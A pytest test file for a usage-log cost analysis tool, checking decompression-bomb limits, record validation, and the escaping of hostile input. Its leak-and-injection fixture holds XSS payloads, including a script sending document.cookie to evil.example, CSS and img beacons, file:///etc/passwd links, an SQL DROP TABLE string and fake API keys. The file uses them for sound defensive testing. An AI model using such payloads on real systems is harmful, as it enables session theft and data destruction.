@pytest.mark.parametrize("rel", sorted(FAILURES))
def test_nothing_usable_is_one_clear_line(rel: str, tmp_path: Path) -> None:
    message, fragments, written = FAILURES[rel]
    out = tmp_path / "out"
    result = analyze(HOSTILE / rel, out=out)
    assert_clear_failure(result, message, *fragments)
    assert not (out / "report.json").exists()
    rejects = rejects_of(out)
    assert len(rejects) == written
    assert all(file == str(HOSTILE / rel) and line >= 1 and reason for file, line, reason in rejects)


def test_the_whole_corpus_in_one_run_loses_no_file_and_no_record(tmp_path: Path) -> None:
    """Every file under tests/hostile is read or listed as skipped with a reason; every record is counted."""
    out = tmp_path / "out"
    result = analyze(HOSTILE, out=out)
    assert result.exit_code == 0, result.output
    report = report_of(out)
    files = sorted(str(p) for p in HOSTILE.rglob("*") if p.is_file())  # the generator script too: skipped
    seen = sorted([i["path"] for i in report["inputs"]] + [s["path"] for s in report["skipped"]])
    assert seen == files
    assert all(s["reason"] for s in report["skipped"])
    for i in report["inputs"]:
        assert i["rows_read"] == i["rows_loaded"] + i["rows_rejected"] + i["rows_duplicate"], i
    assert sum(i["rows_rejected"] for i in report["inputs"]) == len(rejects_of(out))
    assert {i["format"] for i in report["inputs"]} == set(ingest.formats()) - PENDING  # each corpus is detected


# Readers added after this corpus was written (the billing and cloud readers): each needs its own
# tests/hostile/<format>/ cases, and then leaves this set (the test below fails until it does, both ways).
PENDING: set[str] = set()  # every reader has its corpus (the cloud and bill readers': tests/test_cloud_readers.py)


def test_every_reader_has_a_hostile_corpus() -> None:
    covered = {p.name for p in HOSTILE.iterdir() if p.is_dir() and not p.name.startswith(("_", "."))}
    assert covered <= set(ingest.formats())  # one folder per format id
    assert set(ingest.formats()) - covered == PENDING, "add tests/hostile/<format>/ cases, then update PENDING"


def test_committed_byte_cases_are_what_the_generator_writes(tmp_path: Path) -> None:
    """BOM, CRLF, Latin-1 and broken gzip files are exactly the generator's bytes (nothing re-encoded them)."""
    cases = runpy.run_path(str(HOSTILE / "make_byte_cases.py"))["cases"]  # run_path: no __pycache__ in the corpus
    for rel, data in cases().items():
        assert (HOSTILE / rel).read_bytes() == data, rel


# ---- a gzip that expands to gigabytes ---------------------------------------------------------------------

GOOD_CC = [
    json.dumps({"parentUuid": "p", "sessionId": "s-bomb", "uuid": f"u{i}", "type": "assistant",
                "requestId": f"req_bomb{i}", "timestamp": "2026-09-01T10:00:00Z",
                "message": {"id": f"msg_bomb{i}", "model": "claude-sonnet-4-6", "role": "assistant",
                            "content": [], "usage": {"input_tokens": 1000 * i, "output_tokens": 100 * i}}})
    for i in (1, 2)]
GOOD_PAGE = json.dumps({"data": [{"starting_at": "2026-08-10T00:00:00Z", "ending_at": "2026-08-11T00:00:00Z",
                                  "results": [{"model": "claude-sonnet-4-6", "uncached_input_tokens": 1000,
                                               "output_tokens": 100}]}]})


def gzip_bomb(path: Path, head: bytes, filler: bytes, mib: int = 4096) -> int:
    """head, then `mib` MiB of `filler`, as gzip: one 1 MiB member repeated (a few MB on disk, made in ~0.1 s)."""
    member = gzip.compress(filler * (2**20 // len(filler)), compresslevel=9, mtime=0)
    with open(path, "wb") as f:
        f.write(gzip.compress(head, mtime=0))
        for _ in range(mib):
            f.write(member)
    return path.stat().st_size


GOOD_LOG = json.dumps({"timestamp": "2026-09-01T10:00:00Z", "request": {"model": "claude-sonnet-4-6"},
                       "response": {"id": "msg_bomblog", "model": "claude-sonnet-4-6",
                                    "usage": {"input_tokens": 3000, "output_tokens": 300}}})


@pytest.mark.parametrize(("name", "head", "filler"), [
    ("session.jsonl.gz", ("\n".join(GOOD_CC) + "\n").encode(), b"\n"),  # blank lines: the slow kind to read
    ("session2.jsonl.gz", ("\n".join(GOOD_CC) + "\n").encode(), b"A"),  # one endless line
    ("gateway.jsonl.gz", (GOOD_LOG + "\n").encode(), b"{}\n"),  # a flood of rejects
    ("usage.json.gz", GOOD_PAGE.encode(), b" "),  # one JSON document that never ends
])
def test_gzip_bomb_stops_with_a_file_error_in_bounded_time_and_memory(
        name: str, head: bytes, filler: bytes, tmp_path: Path) -> None:
    bomb = tmp_path / "in" / name
    bomb.parent.mkdir()
    size = gzip_bomb(bomb, head, filler)
    assert size < 8 * 2**20  # 4 GiB of content in a few MB
    out = tmp_path / "out"
    # A child process, so that its peak memory can be measured on its own.
    # (VmHWM, not ru_maxrss: after exec, ru_maxrss still counts the parent's pages at fork time.)
    code = ("import re, sys\nfrom finops.cli import cli\ntry:\n    cli(prog_name='finops')\nfinally:\n"
            "    hwm = re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read()).group(1)\n"
            "    print('maxrss_kib', hwm, file=sys.stderr)\n")
    proc = subprocess.run([sys.executable, "-c", code, "analyze", str(bomb), "-o", str(out), "--format", "json"],
                          capture_output=True, text=True, timeout=600)
    rss_mib = int(proc.stderr.split("maxrss_kib")[-1].split()[0]) / 1024
    assert rss_mib < 400, rss_mib  # holding 256 MiB of document or 64 MiB of one line would show here
    assert "Traceback" not in proc.stderr + proc.stdout
    if name.startswith("usage"):  # nothing usable: one clear line
        assert proc.returncode == 1, proc.stdout + proc.stderr
        assert "likely decompression bomb" in proc.stderr and proc.stderr.startswith("Error: no usable input")
        error = proc.stderr
    else:
        assert proc.returncode == 0, proc.stdout + proc.stderr
        report = report_of(out)
        [source] = report["inputs"]
        assert "likely decompression bomb" in source["error"] and "reading stopped after" in source["error"]
        error = source["error"]
    # Bounded work, counted rather than timed: reading stopped right after GZIP_RATIO_FLOOR (1 MiB) of the
    # 4 GiB came out, so the time is that of a 1 MiB file whatever the machine's load.
    expanded = re.search(r"\((\d+) MiB from \d+ KiB\)", " ".join(error.split()))
    assert expanded is not None and int(expanded.group(1)) <= 2, error
    if name.startswith("usage"):
        return
    assert source["rows_read"] == source["rows_loaded"] + source["rows_rejected"] + source["rows_duplicate"]
    assert source["rows_loaded"] == len(head.splitlines())  # the records before the bomb, all of them
    assert source["rows_rejected"] == len(rejects_of(out)) < 2 * common.GZIP_RATIO_FLOOR  # "{}" lines
    assert (report["totals"]["input_tokens"], report["totals"]["output_tokens"]) == (3000, 300)
    # The summary says so too. It wraps at 80 columns, where the phrase can fall across a line break: how far
    # along it starts depends on the length of the temporary path (longer under pytest-xdist's popen-gwN).
    assert "likely decompression bomb" in " ".join(proc.stdout.split())


def _words(count: int, seed: int) -> str:
    rnd = random.Random(seed)
    vocabulary = ["".join(rnd.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rnd.randint(2, 10)))
                  for _ in range(3000)]
    return " ".join(rnd.choice(vocabulary) for _ in range(count))


def test_highly_compressible_genuine_files_are_not_taken_for_bombs(tmp_path: Path) -> None:
    """The most compressible real inputs measured: request logs repeating one long system prompt on every line
    (about 140x) and a pretty-printed usage report of empty buckets (about 170x). Both read to the end."""
    system = _words(1500, seed=1)  # ~9 KB of prose, the same on every line
    lines = [json.dumps({"timestamp": "2026-09-01T10:00:00Z",
                         "request": {"model": "claude-sonnet-4-6", "system": system, "messages": [],
                                     "max_tokens": 100},
                         "response": {"id": f"msg_rep{i}", "model": "claude-sonnet-4-6",
                                      "usage": {"input_tokens": 10, "output_tokens": 1}}}) for i in range(2000)]
    buckets = [{"starting_at": f"2026-08-{1 + i % 28:02d}T00:00:00Z",
                "ending_at": f"2026-08-{1 + i % 28:02d}T23:59:59Z",
                "results": [{"workspace_id": None, "model": "claude-sonnet-4-6", "uncached_input_tokens": 0,
                             "cache_read_input_tokens": 0, "output_tokens": 0,
                             "cache_creation": {"ephemeral_1h_input_tokens": 0, "ephemeral_5m_input_tokens": 0}}]}
               for i in range(20000)]
    files = {"repetitive.jsonl.gz": ("\n".join(lines) + "\n").encode(),
             "usage_pretty.json.gz": json.dumps({"data": buckets}, indent=2).encode()}
    for name, data in files.items():
        path = tmp_path / "in" / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(gzip.compress(data, mtime=0))
        assert len(data) > 2 * common.GZIP_RATIO_FLOOR and len(data) / path.stat().st_size > 100, name
    result = analyze(tmp_path / "in", out=tmp_path / "out")
    assert result.exit_code == 0, result.output
    inputs = {Path(i["path"]).name: i for i in report_of(tmp_path / "out")["inputs"]}
    assert inputs["repetitive.jsonl.gz"]["error"] is None and inputs["repetitive.jsonl.gz"]["rows_loaded"] == 2000
    assert inputs["usage_pretty.json.gz"]["error"] is None
    assert inputs["usage_pretty.json.gz"]["rows_read"] == 20000


def test_the_ratio_limit_is_what_stops_a_bomb(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """open_binary stops a bomb soon after GZIP_RATIO_FLOOR; without the limit the same file reads to its end."""
    bomb = tmp_path / "b.gz"
    gzip_bomb(bomb, b"", b"\n", mib=64)
    read = 0
    with common.open_binary(bomb) as stream, pytest.raises(common.DecompressionLimit):
        while chunk := stream.read(2**20):
            read += len(chunk)
    assert read <= common.GZIP_RATIO_FLOOR + 2**20  # stopped right after the floor: 1 MiB of 64
    monkeypatch.setattr(common, "MAX_GZIP_RATIO", 10**6)
    with common.open_binary(bomb) as stream:
        assert sum(len(chunk) for chunk in iter(lambda: stream.read(2**20), b"")) == 64 * 2**20


# ---- property tests: generated valid and corrupted records, every reader ------------------------------------

TOK = st.integers(min_value=0, max_value=3_000_000)
VALID = st.lists(st.tuples(TOK, TOK, TOK), min_size=1, max_size=8)  # input, cache read, output
LINE_BREAKS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"  # garbage stays on its own line
GARBAGE = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters=LINE_BREAKS),
                  max_size=40)
KINDS = ("truncated", "negative", "not_a_number", "bad_time", "missing")
CORRUPT = st.lists(st.one_of(st.sampled_from(KINDS), GARBAGE.map(lambda g: "garbage:" + g)), max_size=8)
NAME = st.text(alphabet="abcdefghij\u00e9\u00fc \u4e2d", min_size=1, max_size=8)  # valid attribution text


def _cc_line(key: str, inp: Any, read: Any, out: Any, ts: Any = "2026-09-01T10:00:00Z", name: str = "x") -> str:
    return json.dumps({"parentUuid": "p", "sessionId": name, "uuid": key, "type": "assistant",
                       "requestId": f"req_{key}", "timestamp": ts,
                       "message": {"id": f"msg_{key}", "model": "claude-sonnet-4-6", "role": "assistant",
                                   "content": [{"type": "text", "text": MARKER}],
                                   "usage": {"input_tokens": inp, "cache_read_input_tokens": read,
                                             "output_tokens": out}}}, ensure_ascii=False)


def _log_line(key: str, inp: Any, read: Any, out: Any, ts: Any = "2026-09-01T10:00:00Z", name: str = "x") -> str:
    return json.dumps({"timestamp": ts, "request": {"model": "claude-sonnet-4-6", "max_tokens": 10,
                                                    "messages": [{"role": "user", "content": MARKER}]},
                       "response": {"id": f"msg_{key}", "model": "claude-sonnet-4-6",
                                    "usage": {"input_tokens": inp, "cache_read_input_tokens": read,
                                              "output_tokens": out}},
                       "metadata": {"project": name}}, ensure_ascii=False)


def _batch_line(key: str, inp: Any, read: Any, out: Any, ts: Any = "2026-09-01T10:00:00Z", name: str = "x") -> str:
    return json.dumps({"custom_id": f"{name}-{key}", "timestamp": ts,
                       "result": {"type": "succeeded",
                                  "message": {"id": f"msg_{key}", "model": "claude-sonnet-4-6",
                                              "usage": {"input_tokens": inp, "cache_read_input_tokens": read,
                                                        "output_tokens": out}}}}, ensure_ascii=False)


def _page_line(key: str, inp: Any, read: Any, out: Any, ts: Any = "2026-08-10T00:00:00Z", name: str = "x") -> str:
    return json.dumps({"data": [{"starting_at": ts, "ending_at": "2026-08-11T00:00:00Z",
                                 "results": [{"api_key_id": key, "workspace_id": name,
                                              "model": "claude-sonnet-4-6", "uncached_input_tokens": inp,
                                              "cache_read_input_tokens": read, "output_tokens": out}]}]},
                      ensure_ascii=False)


CSV_HEAD = ("usage_date_utc,model_version,api_key,workspace,usage_input_tokens_no_cache,"
            "usage_input_tokens_cache_read,usage_output_tokens,speed")


def _csv_line(key: str, inp: Any, read: Any, out: Any, ts: Any = "2026-08-10", name: str = "x") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="").writerow([ts, "claude-sonnet-4-6", key, name, inp, read, out, ""])
    return buffer.getvalue()


FORMATS = {  # format -> (make a line, header, a value that is no timestamp, file name)
    "claude_code": (_cc_line, None, "not a time", "projects/p/s.jsonl"),
    "anthropic_log": (_log_line, None, "not a time", "log.jsonl"),
    "anthropic_batch": (_batch_line, None, "not a time", "batch.jsonl"),
    "anthropic_usage_report": (_page_line, None, "not a time", "usage.jsonl"),
    "console_usage_csv": (_csv_line, CSV_HEAD, "10/08/2026", "usage.csv"),
}


def _corrupt_line(fmt: str, kind: str, key: str) -> str:
    make, _, bad_time, _ = FORMATS[fmt]
    if kind == "truncated":
        line = make(key, 1, 2, 3)
        return line[: len(line) // 2]
    if kind == "negative":
        return make(key, 1, 2, -3)
    if kind == "not_a_number":
        return make(key, "many", 2, 3)
    if kind == "bad_time":
        return make(key, 1, 2, 3, ts=bad_time)
    if kind == "missing":
        return make(key, 1, 2, None)
    return kind.removeprefix("garbage:")


@pytest.mark.parametrize("fmt", sorted(FORMATS))
@given(valid=VALID, names=st.lists(NAME, min_size=8, max_size=8), bad=CORRUPT,
       shuffle=st.randoms(use_true_random=False), fast=st.booleans())
def test_readers_keep_the_identity_and_lose_no_valid_record(
        fmt: str, valid: list[tuple[int, int, int]], names: list[str], bad: list[str], shuffle: random.Random,
        fast: bool) -> None:
    make, header, _, name = FORMATS[fmt]
    good = [make(f"v{i}", inp, read, out, name=names[i]) for i, (inp, read, out) in enumerate(valid)]
    corrupt = [_corrupt_line(fmt, kind, f"c{i}") for i, kind in enumerate(bad)]
    rest = good[1:] + corrupt
    shuffle.shuffle(rest)
    lines = ([header] if header else []) + [good[0], *rest]  # the first record is valid: the file is detected
    structured = sum(1 for kind in bad if not kind.startswith("garbage:"))
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
        con = duckdb.connect()
        old = os.environ.pop("FINOPS_NO_FAST_PATH", None)
        if not fast:
            os.environ["FINOPS_NO_FAST_PATH"] = "1"
        try:
            result = ingest.load([path], con)
        finally:
            os.environ.pop("FINOPS_NO_FAST_PATH", None)
            if old is not None:
                os.environ["FINOPS_NO_FAST_PATH"] = old
        [stats] = result.files
        assert stats.format == fmt
        assert stats.rows_read == stats.rows_loaded + stats.rows_rejected + stats.rows_duplicate
        assert (stats.rows_loaded, stats.rows_duplicate) == (len(valid), 0)
        # Every structured corruption is rejected, never silently ignored; garbage is rejected or ignored.
        assert structured <= stats.rows_rejected <= len(bad)
        assert stats.rows_rejected + stats.lines_ignored <= len(bad)
        assert stats.error is None
        got = con.execute("SELECT sum(input_tokens), sum(cache_read_tokens), sum(output_tokens), count(*) "
                          "FROM usage").fetchone()
        assert got == (sum(v[0] for v in valid), sum(v[1] for v in valid), sum(v[2] for v in valid), len(valid))
        assert con.execute("SELECT count(*) FROM rejects").fetchone() == (stats.rows_rejected,)
        con.close()


# ---- leaks and injection -----------------------------------------------------------------------------------

API_KEY = "sk-ant-api03-Zq8xVt3mR7kPw2LnB9yHc4JdF6gTs1QeU5oIaXvN0bMlKjYh-AbCdEfGhIjKlMn_OpQrStUvWxYz0123-9XyZ"
ADMIN_KEY = "sk-ant-admin01-Hx7Lq2Wm9Pz4Rn8Ty3Uv6Bc1Dk5Fg0Sj-Ad2Ze7Xc4Vb9Nm1Qw6Er3Ty8Ui5Op0As-7KdR"
BEARER = "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJzdmMtaGVscGRlc2sifQ.4fQ2pL8rT1xZ9wK3mN7bV5cH0jG6dS2a"
EMAIL = "jane.doe@example.com"
EMAIL2 = "ops-lead@acme-corp.example"
SECRETS = (API_KEY, ADMIN_KEY, BEARER.split()[1], EMAIL, EMAIL2)
MASKED_KEYS = {API_KEY[:10] + "…" + API_KEY[-4:], ADMIN_KEY[:10] + "…" + ADMIN_KEY[-4:]}  # prefix … last 4
SQLI = "x'); DROP TABLE usage; --"
OUTPUT_FORMATS = ("pdf", "html", "json", "csv", "md")  # every output `finops analyze` writes
OUTPUT_NAMES = {"rejects.csv", "report.json", "report.html", "report.pdf", "findings.csv", "finding_evidence.csv",
                "evidence.csv", "summary.md"}
IMG = '<img src="http://evil.example/pixel.png" onerror="alert(1)">'
IMG_FILE = '<img src="file:///etc/passwd">'
CSS = "</style><style>body{background:url(http://evil.example/css.png)}</style>"
SCRIPT = "<script>fetch('http://evil.example/'+document.cookie)</script>"
LINK = '<link rel="stylesheet" href="file:///etc/passwd">'


def _hostile_inputs(root: Path) -> list[Path]:
    """Logs of every format whose user-controlled fields hold secrets, HTML and CSS, and prompts a marker."""
    log = root / "api" / "gateway.jsonl"
    log.parent.mkdir(parents=True)
    thinking = {"type": "thinking", "thinking": f"{MARKER} secret reasoning"}
    base = {"timestamp": "2026-09-01T10:00:00Z",
            "request": {"model": "claude-sonnet-4-6", "max_tokens": 2048, "system": f"{MARKER} system {API_KEY}",
                        "messages": [{"role": "user", "content": f"{MARKER} {EMAIL} {BEARER}"}],
                        "tools": [{"name": "t", "description": MARKER, "input_schema": {"type": "object"}}]},
            "response": {"id": "msg_leak1", "type": "message", "model": "claude-sonnet-4-6",
                         "content": [thinking, {"type": "text", "text": f"{MARKER} answer {API_KEY}"},
                                     {"type": "tool_use", "id": "tu", "name": "t", "input": {"q": MARKER}}],
                         "usage": {"input_tokens": 1000, "output_tokens": 100}},
            "metadata": {"api_key_id": API_KEY, "workspace": CSS, "project": IMG, "user": EMAIL,
                         "tags": [BEARER, SCRIPT, EMAIL2], "session_id": EMAIL, "request_id": BEARER}}
    second = json.loads(json.dumps(base))
    second["response"]["id"] = "msg_leak2"
    second["response"]["model"] = second["request"]["model"] = f"claude-{SCRIPT}{IMG_FILE}"  # unknown: shown
    second["metadata"].update(project=LINK, workspace=EMAIL2, api_key_id=f"key for {EMAIL2}")
    third = json.loads(json.dumps(base))
    third["response"]["id"] = "msg_leak3"
    third["response"]["model"] = third["request"]["model"] = API_KEY  # a key pasted as a model name
    third["metadata"]["project"] = SQLI
    rejected = json.loads(json.dumps(base))
    rejected["response"]["id"] = "msg_leak4"
    rejected["timestamp"] = EMAIL  # rejected, and the reason quotes the value
    rejected_key = json.loads(json.dumps(base))
    rejected_key["response"]["id"] = "msg_leak5"
    rejected_key["response"]["usage"]["input_tokens"] = API_KEY
    log.write_text("\n".join(json.dumps(x) for x in (base, second, third, rejected, rejected_key)) + "\n")

    cc = root / "claude" / "projects" / "-home-<img src=x onerror=alert(1)>" / "s.jsonl"
    cc.parent.mkdir(parents=True)
    cc.write_text("\n".join(json.dumps(x) for x in [
        {"parentUuid": None, "sessionId": EMAIL, "type": "user", "uuid": "u0", "timestamp": "2026-09-01T10:00:00Z",
         "message": {"role": "user", "content": f"{MARKER} please {API_KEY}"}},
        {"parentUuid": "u0", "sessionId": EMAIL, "type": "assistant", "uuid": "u1", "requestId": BEARER,
         "timestamp": "2026-09-01T10:00:01Z",
         "message": {"id": "msg_leakcc", "model": "claude-<style>@import url(http://evil.example/x)</style>",
                     "role": "assistant", "content": [thinking, {"type": "text", "text": MARKER}],
                     "usage": {"input_tokens": 10, "output_tokens": 1}}}]) + "\n")

    batch = root / "batch" / "results.jsonl"
    batch.parent.mkdir(parents=True)
    batch.write_text(json.dumps({"custom_id": API_KEY, "timestamp": "2026-09-01T10:00:00Z",
                                 "result": {"type": "succeeded", "message": {
                                     "id": "msg_leakb", "model": "claude-sonnet-4-6",
                                     "content": [{"type": "text", "text": MARKER}],
                                     "usage": {"input_tokens": 100, "output_tokens": 10}}}}) + "\n")

    report = root / "admin" / "usage.json"
    report.parent.mkdir(parents=True)
    report.write_text(json.dumps({"data": [{
        "starting_at": "2026-08-10T00:00:00Z", "ending_at": "2026-08-11T00:00:00Z",
        "results": [{"api_key_id": ADMIN_KEY, "workspace_id": IMG, "account_id": EMAIL,
                     "model": "claude-sonnet-4-6", "uncached_input_tokens": 100, "output_tokens": 10,
                     "inference_geo": f"{SCRIPT}", "context_window": CSS}]}]}))

    console = root / "console" / "usage.csv"
    console.parent.mkdir(parents=True)
    console.write_text(
        "usage_date_utc,model_version,api_key,workspace,usage_input_tokens_no_cache,usage_output_tokens,"
        "inference_geo\n"
        f'2026-08-11,claude-sonnet-4-6,{ADMIN_KEY},"{EMAIL2}",100,10,"{LINK.replace(chr(34), chr(39))}"\n'
        f'2026-08-12,claude-sonnet-4-6,"{BEARER}","{CSS.replace(chr(34), chr(39))}",100,10,\n'
        f"2026-08-13,claude-sonnet-4-6,key,{EMAIL},not-a-number-{EMAIL},10,\n")
    return [log, cc, batch, report, console]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """One full run (PDF, HTML and JSON) over the hostile inputs, recording every URL the renderer is asked for
    and every network connection attempted."""
    import socket

    import finops.reports as reports
    from weasyprint.urls import URLFetcher

    root = tmp_path_factory.mktemp("leak")
    inputs = _hostile_inputs(root / "in")
    out = root / "out"
    victim = root / "victim.txt"
    victim.write_text("untouched")
    out.mkdir()
    (out / "report.html").symlink_to(victim)  # a symlink planted where a report goes
    before = sorted(p.relative_to(root) for p in root.rglob("*") if not p.is_relative_to(out))
    asked: list[str] = []
    connects: list[Any] = []
    allowed, fetch = reports._allowed, URLFetcher.fetch

    def record_allowed(url: str) -> bool:
        asked.append(url)
        return allowed(url)

    def record_fetch(self: Any, url: str, *args: Any, **kwargs: Any) -> Any:
        asked.append(url)
        return fetch(self, url, *args, **kwargs)

    def refuse_connect(self: Any, address: Any) -> None:
        connects.append(address)
        raise OSError("network use in a test")

    mp = pytest.MonkeyPatch()
    mp.setattr(reports, "_allowed", record_allowed)
    mp.setattr(URLFetcher, "fetch", record_fetch)
    mp.setattr(socket.socket, "connect", refuse_connect)
    runner = CliRunner(env={"COLUMNS": "100"})
    try:
        result = analyze(*inputs, out=out, formats=",".join(OUTPUT_FORMATS))
        after = sorted(p.relative_to(root) for p in root.rglob("*") if not p.is_relative_to(out))
        # The other outputs: the evidence pack, the persistent store and its Parquet export.
        evidence = runner.invoke(cli, ["evidence", *map(str, inputs), "-o", str(root / "evidence")])
        store = runner.invoke(cli, ["ingest", *map(str, inputs), "--db", str(root / "store.duckdb"), "--quiet"])
        parquet = runner.invoke(cli, ["export", "parquet", "--db", str(root / "store.duckdb"),
                                      str(root / "parquet")])
    finally:
        mp.undo()
    assert result.exit_code == 0, result.output
    for other in (evidence, store, parquet):
        assert other.exit_code == 0, (other.output, other.exception)
    pdf_text = {}
    if shutil.which("pdftotext"):
        for pdf in (out / "report.pdf", *sorted((root / "evidence").glob("*.pdf"))):
            pdf_text[pdf.name] = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True,
                                                check=True).stdout
    con = duckdb.connect()
    rows = con.execute("SELECT * FROM read_parquet(?, hive_partitioning = true)",
                       [str(root / "parquet" / "**" / "*.parquet")]).fetchall()
    store_rows = []
    with duckdb.connect(str(root / "store.duckdb"), read_only=True) as db:
        for (table,) in db.execute("SELECT table_name FROM duckdb_tables()").fetchall():
            store_rows += db.execute(f'SELECT * FROM "{table}"').fetchall()  # names from the catalogue
    return {"result": result, "out": out, "asked": asked, "connects": connects, "pdf_text": pdf_text,
            "before": before, "after": after, "victim": victim, "inputs": inputs, "evidence": root / "evidence",
            "parquet": "\n".join(map(repr, rows)), "store": "\n".join(map(repr, store_rows)),
            "terminals": evidence.output + store.output + parquet.output}


def _outputs(run: dict[str, Any]) -> dict[str, str]:
    """Every file written but the PDFs, the store and its Parquet export, and the terminal."""
    texts = {p.name: p.read_text(encoding="utf-8") for folder in (run["out"], run["evidence"])
             for p in folder.iterdir() if p.suffix != ".pdf"}
    assert {"report.json", "report.html", "rejects.csv", "evidence.json"} <= set(texts)
    assert run["parquet"] and run["store"]
    return {**texts, "parquet export": run["parquet"], "store": run["store"],
            "terminal": run["result"].output + run["terminals"]}


def _pdf_texts(run: dict[str, Any]) -> dict[str, str]:
    """The PDFs as their text; the PDF checks alone skip where pdftotext is missing."""
    if not run["pdf_text"]:
        pytest.skip("pdftotext (poppler-utils) is not installed: apt-get install poppler-utils")
    assert {"report.pdf", "evidence.pdf"} <= set(run["pdf_text"])
    return run["pdf_text"]


def _no_secret_in(outputs: dict[str, str]) -> None:
    for name, body in outputs.items():
        flat = "".join(body.split())  # the PDF's text wraps long values across lines
        for secret in SECRETS:
            assert secret not in body and "".join(secret.split()) not in flat, (name, secret[:12])


def _no_prompt_in(outputs: dict[str, str]) -> None:
    for name, body in outputs.items():
        assert MARKER not in body and MARKER not in "".join(body.split()), name


def test_secrets_in_inputs_never_appear_in_full_in_any_output(hostile_run: dict[str, Any]) -> None:
    _no_secret_in(_outputs(hostile_run))
    report = report_of(hostile_run["out"])
    keys = {row["api_key_id"] for row in report["spend_by"]["api_key_id"]}
    assert MASKED_KEYS <= keys  # shown, masked to a prefix and the last 4 characters
    assert "op…mple" in {row["workspace"] for row in report["spend_by"]["workspace"]}
    reasons = [reason for _, _, reason in rejects_of(hostile_run["out"])]
    assert any(reason.startswith("timestamp is not a timestamp: 'ja….com'") for reason in reasons), reasons


def test_secrets_in_inputs_never_appear_in_full_in_the_pdfs(hostile_run: dict[str, Any]) -> None:
    _no_secret_in(_pdf_texts(hostile_run))


def test_prompt_and_response_text_never_appear_in_any_output(hostile_run: dict[str, Any]) -> None:
    assert all(MARKER in p.read_text() for p in hostile_run["inputs"][:3])  # it was there to leak
    _no_prompt_in(_outputs(hostile_run))
    assert MARKER.encode() not in (hostile_run["out"] / "report.pdf").read_bytes()


def test_prompt_and_response_text_never_appear_in_the_pdfs(hostile_run: dict[str, Any]) -> None:
    _no_prompt_in(_pdf_texts(hostile_run))


def test_a_model_named_like_terminal_markup_does_not_crash_the_summary(tmp_path: Path) -> None:
    """The summary printed "[/]" (an unknown model's name) as rich markup and crashed after writing the report."""
    log = tmp_path / "log.jsonl"
    log.write_text(json.dumps({"timestamp": "2026-09-01T10:00:00Z", "request": {"model": "x"},
                               "response": {"id": "msg_markup", "model": "[/]",
                                            "usage": {"input_tokens": 1, "output_tokens": 1}}}) + "\n")
    result = analyze(log, out=tmp_path / "out")
    assert result.exception is None, repr(result.exception)
    assert result.exit_code == 0 and "[/]" in result.output


def test_html_from_hostile_names_is_inert_text(hostile_run: dict[str, Any]) -> None:
    from bs4 import BeautifulSoup

    html = (hostile_run["out"] / "report.html").read_text(encoding="utf-8")
    soup = BeautifulSoup(html, "html.parser")
    assert soup.find("script") is None and soup.find("img") is None and soup.find("link") is None
    assert not soup.select("[src]") and not soup.select("[onerror]")
    assert all(a["href"].startswith("#") for a in soup.select("a[href]"))
    styles = [s.get_text() for s in soup.find_all("style")] + [e["style"] for e in soup.select("[style]")]
    assert "url(" not in " ".join(styles) and "@import" not in " ".join(styles)
    assert len(soup.find_all("style")) == 1  # only ours: the "</style><style>" workspace did not open one
    text = soup.get_text()
    assert IMG in text and CSS in text  # the names are shown, as text
    assert f"claude-{SCRIPT}{IMG_FILE}" in text


def test_the_pdf_renderer_fetches_nothing(hostile_run: dict[str, Any]) -> None:
    assert (hostile_run["out"] / "report.pdf").read_bytes().startswith(b"%PDF")
    assert [u for u in hostile_run["asked"] if not u.startswith("data:")] == []
    assert hostile_run["connects"] == []
    if hostile_run["pdf_text"]:
        assert "<img" in hostile_run["pdf_text"]["report.pdf"]  # drawn as text


def test_outputs_stay_in_the_output_folder(hostile_run: dict[str, Any]) -> None:
    out = hostile_run["out"]
    names = {p.name for p in out.iterdir()}
    assert {"rejects.csv", "report.html", "report.json", "report.pdf"} <= names <= OUTPUT_NAMES
    assert all(p.is_file() and not p.is_symlink() for p in out.iterdir())
    assert not (out / "report.html").is_symlink()  # the planted link was replaced, not written through
    assert hostile_run["victim"].read_text() == "untouched"
    assert hostile_run["after"] == hostile_run["before"]  # nothing created or removed outside the folder


def test_sql_in_names_is_data(hostile_run: dict[str, Any]) -> None:
    """A project named like an SQL injection is stored and shown as it is, and every table survived it."""
    report = report_of(hostile_run["out"])
    assert SQLI in {row["project"] for row in report["spend_by"]["project"]}
    # Priced rows: 1000/100 (base), 100/10 (batch), 100/10 (usage report), 2 x 100/10 (Console); the rows on an
    # unknown model (the pasted key, the HTML name, the Claude Code one) are unpriced.
    assert report["totals"]["input_tokens"] == 1000 + 1000 + 1000 + 10 + 100 + 100 + 200
    assert Decimal(report["totals"]["billed_cost_usd"]) == Decimal("0.0045") + Decimal("0.000225") + 3 * Decimal(
        "0.00045")


def test_templates_autoescape() -> None:
    import finops.reports as reports

    assert reports._environment().autoescape is True


# ---- file names that are not UTF-8 ------------------------------------------------------------------------------


@pytest.mark.parametrize("env", [None, FAST_OFF], ids=["fast", "python"])
def test_a_file_name_that_is_not_utf8_is_read_and_shown_escaped(env: dict[str, str] | None, tmp_path: Path) -> None:
    """Linux file names are bytes: b"bad\\xffname.jsonl" is read like any file, and every output names it with the
    byte escaped (bad\\xffname.jsonl), never aborting on the undecodable name."""
    root = os.fsencode(tmp_path / "in")
    os.makedirs(root + b"/projects/pr\xfeoj")
    shutil.copyfile(HOSTILE / "anthropic_log/truncated.jsonl", root + b"/bad\xffname.jsonl")
    shutil.copyfile(HOSTILE / "anthropic_log/truncated.jsonl.gz", root + b"/cut\xff.jsonl.gz")
    shutil.copyfile(HOSTILE / "claude_code/truncated.jsonl", root + b"/projects/pr\xfeoj/s\xff.jsonl")
    out = tmp_path / "out"
    # The PDF once: the names are escaped before any reader sees the files (its rendering: 1.4 CPU-s).
    result = analyze(tmp_path / "in", out=out, formats="json,html,pdf" if env is None else "json,html", env=env)
    assert result.exit_code == 0, result.output
